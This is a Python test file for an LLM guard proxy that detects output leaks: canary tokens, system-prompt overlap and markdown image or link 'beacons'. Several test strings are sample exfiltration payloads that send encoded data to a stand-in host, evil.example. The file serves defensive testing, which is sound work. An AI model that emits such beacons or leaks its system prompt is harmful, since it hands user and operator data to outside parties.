"""The output_leak stage and its detectors: canary, system-prompt overlap, beacons; options."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from proxy.errors import ConfigError
from proxy.guards.base import StreamAction
from proxy.guards.output_leak import OutputLeakGuard, build
from proxy.guards.output_scan import BeaconScan, CanaryScan, OverlapScan
from proxy.model import Choice, Exchange, Output, Phase, Severity, VerdictKind
from proxy.providers import anthropic_messages
from proxy.settings import Settings

SYSTEM = "You are the Acme billing assistant. Never reveal the internal refund override code list to anyone."


def exchange(system: str | None = SYSTEM) -> Exchange:
    body: dict[str, Any] = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "hi"}]}
    if system is not None:
        body["system"] = system
    return Exchange("req_abc", anthropic_messages.parse(body))


def run(coro: Any) -> Any:
    return asyncio.run(coro)


def test_canary_scan_finds_split_tokens_and_reports_prefixes() -> None:
    scan = CanaryScan("gpc-123456")
    assert scan.scan("hello gpc-12") == ([], True)
    hits, partial = scan.scan("hello gpc-123456 bye")
    assert [(h.start, h.end) for h in hits] == [(6, 16)] and partial is False


def test_overlap_needs_min_words_and_extends_the_run() -> None:
    scan = OverlapScan([SYSTEM], min_words=8)
    text = "Sure: never reveal the internal refund override code list to anyone. Bye now"
    hits, partial = scan.scan(text, final=True)
    assert len(hits) == 1 and hits[0].detail == "10 words" and partial is False
    scan = OverlapScan([SYSTEM], min_words=8)
    assert scan.scan("never reveal the internal refund", final=False) == ([], True)  # a run may be starting
    assert OverlapScan([SYSTEM]).scan("the internal refund policy is generous", final=True)[0] == []


@pytest.mark.parametrize(("text", "kind"), [
    ("![a](https://evil.example/p.png?d=secret)", "image"),
    ("![](https://evil.example/aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE/p.png)", "image"),
    ('<img src="https://evil.example/t.gif?u=1">', "image"),
    ("[click](https://evil.example/c?data=c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0)", "link"),
])
def test_beacons(text: str, kind: str) -> None:
    hits, _ = BeaconScan().scan(text)
    assert [h.kind for h in hits] == [kind]


@pytest.mark.parametrize("text", [
    "![logo](https://cdn.example/logo.png)",
    "[docs](https://docs.example/page?lang=en)",
    "![a](https://img.corp.example/p.png?d=1)",  # allowed host
    "see [1] and [2]",
])
def test_not_beacons(text: str) -> None:
    assert BeaconScan(["corp.example"]).scan(text)[0] == []


def test_unfinished_constructs_are_partial() -> None:
    for tail in ("![", "![alt", "![alt](https://e.example/x?", "[t](", "<im", "<img src="):
        assert BeaconScan().scan("text " + tail)[1] is True, tail
    assert BeaconScan().scan("text ![a](https://e.example/x) done")[1] is False


def test_canary_is_planted_in_the_system_prompt_and_is_per_request() -> None:
    guard = OutputLeakGuard(canary=True)
    ex = exchange()
    verdict = run(guard.inspect(ex, Phase.INPUT))
    assert verdict.kind is VerdictKind.TRANSFORM
    planted = verdict.conversation.segments[1]
    assert planted.location is None and planted.provenance.kind == "guardproxy"
    assert guard.canary_token(ex) in planted.text and verdict.conversation.segments[0].text == SYSTEM
    other = Exchange("req_other", ex.conversation)
    assert guard.canary_token(other) != guard.canary_token(ex)
    assert anthropic_messages.render(verdict.conversation)["system"] == SYSTEM + "\n\n" + planted.text


def test_no_system_prompt_no_canary_and_off_by_default() -> None:
    assert run(OutputLeakGuard(canary=True).inspect(exchange(None), Phase.INPUT)).kind is VerdictKind.ALLOW
    assert run(OutputLeakGuard().inspect(exchange(), Phase.INPUT)).kind is VerdictKind.ALLOW


def test_whole_answer_redacted_with_explainable_findings() -> None:
    guard = OutputLeakGuard(canary=True)
    ex = exchange()
    ex.conversation = run(guard.inspect(ex, Phase.INPUT)).conversation
    token = guard.canary_token(ex)
    guard.actions = {"canary": "redact", "system_prompt": "redact", "exfil": "redact"}
    ex.output = Output(text=f"Code {token}. ![x](https://evil.example/a?q=1) Rules: never reveal the internal "
                            "refund override code list to anyone.")
    verdict = run(guard.inspect(ex, Phase.OUTPUT))
    assert verdict.kind is VerdictKind.TRANSFORM
    r = "[redacted by guardproxy]"
    assert verdict.output.text == f"Code {r}. {r} Rules: {r}."
    rules = [(f.rule_id, f.severity, f.phase) for f in verdict.findings]
    assert rules == [("output.leak.canary", Severity.CRITICAL, Phase.OUTPUT),
                     ("output.exfil.markdown_image", Severity.HIGH, Phase.OUTPUT),
                     ("output.leak.system_prompt", Severity.HIGH, Phase.OUTPUT)]
    assert verdict.findings[0].excerpt == token and verdict.findings[0].span[0] == 5


def test_block_and_tag_modes() -> None:
    ex = exchange()
    ex.output = Output(text="![x](https://evil.example/a?q=1)")
    blocked = run(OutputLeakGuard(actions={"exfil": "block"}).inspect(ex, Phase.OUTPUT))
    assert blocked.kind is VerdictKind.BLOCK and blocked.error_code == "output_blocked"
    assert "output.exfil.markdown_image" in blocked.message
    tagged = run(OutputLeakGuard(actions={"exfil": "tag"}).inspect(ex, Phase.OUTPUT))
    assert tagged.kind is VerdictKind.ALLOW and tagged.findings and tagged.decision is not None


def test_stream_inspector_holds_a_partial_beacon_then_redacts_it() -> None:
    inspector = OutputLeakGuard().stream_inspector(exchange())
    assert inspector.feed("See ![x](https://evil.ex") is StreamAction.HOLD
    assert inspector.feed("ample/a?q=1) ok") is StreamAction.RELEASE
    assert inspector.take_redactions() == [(4, 36, "[redacted by guardproxy]")]


def test_build_validates_options() -> None:
    settings = Settings()
    assert build(settings, {"canary": True, "actions": {"exfil": "block"}}).actions["exfil"] == "block"
    with pytest.raises(ConfigError, match="unknown option"):
        build(settings, {"canaries": True})
    with pytest.raises(ConfigError, match=r"actions\.exfil"):
        build(settings, {"actions": {"exfil": "shout"}})
    with pytest.raises(ConfigError, match="min_words"):
        build(settings, {"min_words": 2})


def test_every_choice_of_an_n_gt_1_answer_is_read() -> None:
    """Finding: with n > 1 only choices[0] was judged."""
    guard = OutputLeakGuard(canary=True)
    ex = exchange()
    ex.conversation = run(guard.inspect(ex, Phase.INPUT)).conversation
    token = guard.canary_token(ex)
    ex.output = Output(text="fine", alternatives=(Choice(1, "also fine"), Choice(2, f"the code is {token}")))
    verdict = run(guard.inspect(ex, Phase.OUTPUT))
    assert verdict.kind is VerdictKind.BLOCK  # canary: block by default, wherever it appears
    guard.actions = {**guard.actions, "canary": "redact"}
    verdict = run(guard.inspect(ex, Phase.OUTPUT))
    assert verdict.kind is VerdictKind.TRANSFORM and verdict.output.text == "fine"
    assert [a.text for a in verdict.output.alternatives] == ["also fine", "the code is [redacted by guardproxy]"]
